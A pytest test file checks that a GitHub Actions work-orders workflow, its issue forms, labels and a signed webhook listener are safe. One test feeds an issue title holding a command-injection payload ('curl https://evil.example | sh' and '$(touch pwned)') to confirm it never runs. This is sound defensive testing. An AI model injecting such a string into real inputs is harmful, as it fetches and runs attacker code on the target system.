"""What `deploy/github` ships: a workflow that gives nothing away, forms whose labels the policy routes, the labels."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from ops_platform.settings import PROJECT_ROOT
from ops_platform.work_orders.label_catalogue import catalogue, missing, put
from ops_platform.work_orders.model import MANAGER_LABELS, STATUS_LABELS
from ops_platform.work_orders.policy import POLICY_FILE, load_policy
from resources.github.webhook import Delivery, WebhookListener

GITHUB = PROJECT_ROOT / "deploy" / "github"
WORKFLOW = GITHUB / "workflows" / "work-orders.yml"
FORMS = sorted((GITHUB / "ISSUE_TEMPLATE").glob("*-*.yml"))
POLICY = load_policy(POLICY_FILE)
SECRET = "a-long-random-webhook-secret"


def workflow() -> dict[Any, Any]:
    found: dict[Any, Any] = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    return found


def test_the_workflow_holds_no_permission_and_runs_nothing_of_a_strangers() -> None:
    said = workflow()
    assert said["permissions"] == {}
    # YAML reads the key "on" as true.
    assert {"opened", "labeled", "edited"} <= set(said[True]["issues"]["types"])
    text = WORKFLOW.read_text(encoding="utf-8")
    assert "uses:" not in text and "pull_request_target" not in text
    for job in said["jobs"].values():
        assert job["timeout-minutes"] <= 10
        for step in job["steps"]:
            # An expression in a command is text of the issue in a shell.
            assert "${{" not in step["run"]
            assert set(re.findall(r"\$\{\{ *([a-z]+)\.", str(step["env"]))) == {"secrets", "vars"}
            assert "--insecure" not in step["run"] and "SECRET" not in step["run"].split("curl", 1)[1]


@pytest.mark.skipif(not all(map(shutil.which, ("bash", "curl", "python3"))), reason="no bash, curl or python3 here")
def test_the_workflows_own_script_reaches_the_listener(tmp_path: Path) -> None:
    kept: list[Delivery] = []
    listener = WebhookListener(kept.append, SECRET)
    listener.start()
    title = '"; curl https://evil.example | sh; $(touch pwned) `touch pwned` ${{ secrets.X }} \u202e'
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"action": "opened", "issue": {"number": 7, "title": title, "body": "x" * 200_000}}))
    (step,) = workflow()["jobs"]["tell"]["steps"]

    def run(secret: str = SECRET, url: str = listener.url) -> subprocess.CompletedProcess[str]:
        environment = {
            "PATH": os.environ["PATH"], "GITHUB_EVENT_PATH": str(event), "GITHUB_RUN_ID": "12345678901",
            "SECRET": secret, "URL": url,
        }  # fmt: skip
        script = step["run"].replace("--retry 4", "--retry 0")
        return subprocess.run(
            ["bash", "-c", script], cwd=tmp_path, env=environment, capture_output=True, text=True, check=False
        )

    done = run()
    assert (done.returncode, done.stdout) == (0, "answered 202\n"), done.stderr
    assert [(each.id, each.event) for each in kept] == [("actions-12345678901", "issues")]
    assert kept[0].body == event.read_bytes()
    assert run("another-secret-altogether").returncode != 0
    assert run(url="http://evil.example/x").returncode != 0 and run("").returncode != 0
    assert len(kept) == 1 and not (tmp_path / "pwned").exists()
    listener.stop()


def test_the_signature_is_githubs(tmp_path: Path) -> None:
    body = b'{"action":"opened"}'
    digest = hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
    listener = WebhookListener(lambda _: None, SECRET)
    headers = {"X-Hub-Signature-256": f"sha256={digest}", "X-GitHub-Delivery": "actions-1", "X-GitHub-Event": "issues"}
    assert listener.receive(headers, body)[0] == 202
    listener._server.server_close()


@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.stem)
def test_a_form_is_one_that_github_takes_and_the_policy_routes(form: Path) -> None:
    said = yaml.safe_load(form.read_text(encoding="utf-8"))
    assert set(said) <= {"name", "description", "title", "labels", "body", "assignees", "projects", "type"}
    assert said["name"] and said["description"]
    (label,) = said["labels"]
    assert any(rule.matches(label) for rule in POLICY.routing.rules), label
    assert label in {each.name for each in catalogue(POLICY)}
    ids = [part["id"] for part in said["body"] if "id" in part]
    assert len(set(ids)) == len(ids) and all(re.fullmatch(r"[a-zA-Z0-9_-]+", each) for each in ids)
    for part in said["body"]:
        assert part["type"] in ("markdown", "textarea", "input", "dropdown", "checkboxes")
        assert part["attributes"].get("label") or part["type"] == "markdown"
        if part["type"] == "dropdown":
            options = part["attributes"]["options"]
            assert len(set(options)) == len(options) and 0 <= part["attributes"]["default"] < len(options)


def test_every_kind_of_operation_has_a_form() -> None:
    labels = {yaml.safe_load(form.read_text(encoding="utf-8"))["labels"][0] for form in FORMS}
    assert {
        "operations/monitoring", "operations/optimization", "support/quality-assurance", "analytics/reporting",
        "security/compliance", "success/user-research", "finance/analysis", "development/architecture",
        "development/code", "development/qa", "development/devops", "development/management",
    } <= labels  # fmt: skip
    for prefix in ("marketing/", "sales/", "management/"):
        assert any(label.startswith(prefix) for label in labels)
    # What the policy routes and no form offers would be found by nobody.
    for rule in POLICY.routing.rules:
        assert any(rule.matches(label) for label in labels), rule.label
    config = yaml.safe_load((GITHUB / "ISSUE_TEMPLATE" / "config.yml").read_text(encoding="utf-8"))
    assert config["blank_issues_enabled"] is False


def test_the_catalogue_is_whole_and_fits_github() -> None:
    labels = catalogue(POLICY)
    names = [each.name for each in labels]
    assert len({name.lower() for name in names}) == len(names)
    assert {name for name in (*STATUS_LABELS.values(), *MANAGER_LABELS.values()) if name} <= set(names)
    assert {f"agent/{name}" for name in POLICY.agents} <= set(names)
    assert {"priority/P0", "priority/P1", "priority/P2", "priority/P3", POLICY.intake.accept_label} <= set(names)
    for each in labels:
        assert len(each.name) <= 50 and re.fullmatch(r"[0-9a-f]{6}", each.color)
        assert each.description and len(each.description) <= 100


def test_labels_are_put_once() -> None:
    class Repository:
        def __init__(self) -> None:
            self.there: dict[str, Any] = {"Priority/p0": {}, "bug": {}}

        def labels(self, repository: str) -> dict[str, Any]:
            return self.there

        def ensure_label(self, repository: str, name: str, color: str, description: str = "") -> bool:
            self.there[name] = {"color": color, "description": description}
            return True

    labels, repository = catalogue(POLICY), Repository()
    made = put(labels, "o/r", repository)
    assert len(made) == len(labels) - 1 and "priority/P0" not in {each.name for each in made}
    assert put(labels, "o/r", repository) == [] == missing(labels, repository.there)
